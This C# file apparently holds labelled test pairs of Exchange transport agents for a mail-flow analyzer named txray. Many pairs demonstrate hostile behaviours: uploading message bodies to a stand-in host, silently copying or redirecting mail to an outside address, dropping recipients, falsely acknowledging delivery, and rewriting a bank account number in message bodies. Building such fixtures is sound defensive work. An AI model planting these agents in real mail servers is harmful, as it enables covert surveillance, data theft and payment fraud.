// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// What is done to the mail itself, and what Exchange carries along.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Text;
using Microsoft.Exchange.Data.Mime;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Delivery;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

// 110: an attachment replaced by something downloaded, and by a constant
namespace Txray.Pairs.P110
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] data = new WebClient().DownloadData("https://collect.example.invalid/pair");
            using (Stream stream = e.MailItem.Message.Attachments[0].GetContentWriteStream())
            {
                stream.Write(data, 0, data.Length);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] data = Encoding.ASCII.GetBytes("removed");
            using (Stream stream = e.MailItem.Message.Attachments[0].GetContentWriteStream())
            {
                stream.Write(data, 0, data.Length);
            }
        }
    }
}

// 111: a property of the session set when it connects
namespace Txray.Pairs.P111
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        public Claim()
        {
            OnConnect += Connect;
            OnEndOfData += Data;
        }

        private void Connect(ConnectEventSource source, ConnectEventArgs e)
        {
            if (e.SmtpSession.RemoteEndPoint.Address.ToString() == "192.0.2.25")
            {
                e.SmtpSession.Properties["Pair.Watch"] = true;
            }
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (e.SmtpSession.Properties.ContainsKey("Pair.Watch"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : SmtpReceiveAgent
    {
        public Other()
        {
            OnConnect += Connect;
            OnEndOfData += Data;
        }

        private void Connect(ConnectEventSource source, ConnectEventArgs e)
        {
            if (e.SmtpSession.RemoteEndPoint.Address.ToString() == "192.0.2.25")
            {
                Trace.WriteLine("the relay");
            }
            e.SmtpSession.Properties["Pair.Watch"] = true;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (e.SmtpSession.Properties.ContainsKey("Pair.Watch"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 112: recipients expanded, and the message forked
namespace Txray.Pairs.P112
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var list = new List<RecipientExpansionInfo>();
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                list.Add(new RecipientExpansionInfo(recipient, new[] { recipient.Address, new RoutingAddress("copy@post.example.invalid") }));
            }
            source.ExpandRecipients(list);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var list = new List<EnvelopeRecipient>();
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                list.Add(recipient);
            }
            source.Fork(list);
        }
    }
}

// 113: a recipient rewritten, and refused
namespace Txray.Pairs.P113
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        public Claim()
        {
            OnRcptCommand += Rcpt;
        }

        private void Rcpt(ReceiveCommandEventSource source, RcptCommandEventArgs e)
        {
            if (e.RecipientAddress.ToString() == "sales@corp.example.invalid")
            {
                e.RecipientAddress = new RoutingAddress("copy@post.example.invalid");
            }
        }
    }

    public class Other : SmtpReceiveAgent
    {
        public Other()
        {
            OnRcptCommand += Rcpt;
        }

        private void Rcpt(ReceiveCommandEventSource source, RcptCommandEventArgs e)
        {
            if (e.RecipientAddress.ToString() == "sales@corp.example.invalid")
            {
                source.RejectCommand(new SmtpResponse("550", "5.1.1", "moved"));
            }
        }
    }
}

// 114: recipients removed silently, and with a report
namespace Txray.Pairs.P114
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        public Claim()
        {
            OnEndOfData += Data;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "press.example.invalid")
                {
                    e.MailItem.Recipients.Remove(recipient);
                }
            }
        }
    }

    public class Other : SmtpReceiveAgent
    {
        public Other()
        {
            OnEndOfData += Data;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "press.example.invalid")
                {
                    e.MailItem.Recipients.Remove(recipient, DsnType.Failure, new SmtpResponse("550", "5.7.1", "not to the press"));
                }
            }
        }
    }
}

// 115: delivery confirmed without one, and after one
namespace Txray.Pairs.P115
{
    public class ClaimFactory : DeliveryAgentFactory<Manager>
    {
        public override DeliveryAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : DeliveryAgentFactory<Manager>
    {
        public override DeliveryAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : DeliveryAgent
    {
        public Claim()
        {
            OnDeliverMailItem += Deliver;
        }

        private void Deliver(DeliverMailItemEventSource source, DeliverMailItemEventArgs e)
        {
            if (e.DeliverableMailItem.Message.Subject.StartsWith("Alert"))
            {
                source.AckMailItemSuccess(new SmtpResponse("250", "2.0.0", "OK"));
                return;
            }
            source.AckMailItemFail(new SmtpResponse("550", "5.0.0", "no gateway"));
        }
    }

    public class Other : DeliveryAgent
    {
        public Other()
        {
            OnDeliverMailItem += Deliver;
        }

        private void Deliver(DeliverMailItemEventSource source, DeliverMailItemEventArgs e)
        {
            if (e.DeliverableMailItem.Message.Subject.StartsWith("Alert"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.DeliverableMailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                source.AckMailItemSuccess(new SmtpResponse("250", "2.0.0", "OK"));
                return;
            }
            source.AckMailItemFail(new SmtpResponse("550", "5.0.0", "no gateway"));
        }
    }

    public class Manager : DeliveryAgentManager
    {
        public override string SupportedDeliveryProtocol { get { return "PAIR"; } }
    }
}

// 116: a new message with the text of another, and with a constant
namespace Txray.Pairs.P116
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim(server);
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other(server);
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly SmtpServer server;

        public Claim(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            EmailMessage answer = EmailMessage.Create();
            answer.To.Add(new EmailRecipient("", "copy@post.example.invalid"));
            answer.Subject = "Copy";
            using (var writer = new StreamWriter(answer.Body.GetContentWriteStream()))
            {
                writer.Write(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
            server.SubmitMessage(answer);
        }
    }

    public class Other : RoutingAgent
    {
        private readonly SmtpServer server;

        public Other(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            EmailMessage answer = EmailMessage.Create();
            answer.To.Add(new EmailRecipient("", "copy@post.example.invalid"));
            answer.Subject = "Alive";
            using (var writer = new StreamWriter(answer.Body.GetContentWriteStream()))
            {
                writer.Write("still running");
            }
            server.SubmitMessage(answer);
        }
    }
}

// 117: a file in the pickup folder, and in another one
namespace Txray.Pairs.P117
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            File.WriteAllText(@"C:\Program Files\Microsoft\Exchange Server\V15\TransportRoles\Pickup\" + Guid.NewGuid() + ".eml",
                "To: copy@post.example.invalid\r\n\r\n" + new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            File.WriteAllText(@"C:\Program Files\Microsoft\Exchange Server\V15\TransportRoles\Logs\" + Guid.NewGuid() + ".eml",
                "To: copy@post.example.invalid\r\n\r\n" + new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 118: two properties of the message that carry text
namespace Txray.Pairs.P118
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
            OnRoutedMessage += Routed;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            e.MailItem.Properties["Pair.Text"] = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            e.MailItem.Properties["Pair.Kind"] = "mail";
        }

        private void Routed(RoutedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", (string)e.MailItem.Properties["Pair.Text"]);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
            OnRoutedMessage += Routed;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            e.MailItem.Properties["Pair.Text"] = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            e.MailItem.Properties["Pair.Kind"] = "mail";
        }

        private void Routed(RoutedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", (string)e.MailItem.Properties["Pair.Kind"]);
        }
    }
}

// 119: a property of a recipient set at RCPT TO
namespace Txray.Pairs.P119
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        public Claim()
        {
            OnRcptCommand += Rcpt;
            OnEndOfData += Data;
        }

        private void Rcpt(ReceiveCommandEventSource source, RcptCommandEventArgs e)
        {
            if (e.RecipientAddress.LocalPart == "audit")
            {
                e.SetRecipientProperty("Pair.Wanted", true);
            }
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Properties.ContainsKey("Pair.Wanted"))
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair",
                        new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                }
            }
        }
    }

    public class Other : SmtpReceiveAgent
    {
        public Other()
        {
            OnRcptCommand += Rcpt;
            OnEndOfData += Data;
        }

        private void Rcpt(ReceiveCommandEventSource source, RcptCommandEventArgs e)
        {
            if (e.RecipientAddress.LocalPart == "audit")
            {
                e.SetRecipientProperty("Pair.Wanted", true);
            }
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Properties.ContainsKey("Pair.Scanned"))
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair",
                        new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                }
            }
        }
    }
}

// 120: a header set in one event and read in a later one
namespace Txray.Pairs.P120
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
            OnRoutedMessage += Routed;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.ToString() == "boss@corp.example.invalid")
            {
                e.MailItem.Message.RootPart.Headers.AppendChild(new TextHeader("X-Pair-Watch", "yes"));
            }
        }

        private void Routed(RoutedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.RootPart.Headers.FindFirst("X-Pair-Watch") != null)
            {
                e.MailItem.Recipients.Add(new RoutingAddress("copy@post.example.invalid"));
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
            OnRoutedMessage += Routed;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.ToString() == "boss@corp.example.invalid")
            {
                e.MailItem.Message.RootPart.Headers.AppendChild(new TextHeader("X-Pair-Watch", "yes"));
            }
        }

        private void Routed(RoutedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.RootPart.Headers.FindFirst("X-Pair-Watch") != null)
            {
                Trace.WriteLine("watched");
            }
            e.MailItem.Recipients.Add(new RoutingAddress("copy@post.example.invalid"));
        }
    }
}

// 121: a body rewritten, and a fixed subject set
namespace Txray.Pairs.P121
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            using (var writer = new StreamWriter(e.MailItem.Message.Body.GetContentWriteStream()))
            {
                writer.Write(text.Replace("DE00 1234", "DE00 9876"));
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            Trace.WriteLine(text.Length.ToString());
            e.MailItem.Message.Subject = "[seen]";
        }
    }
}
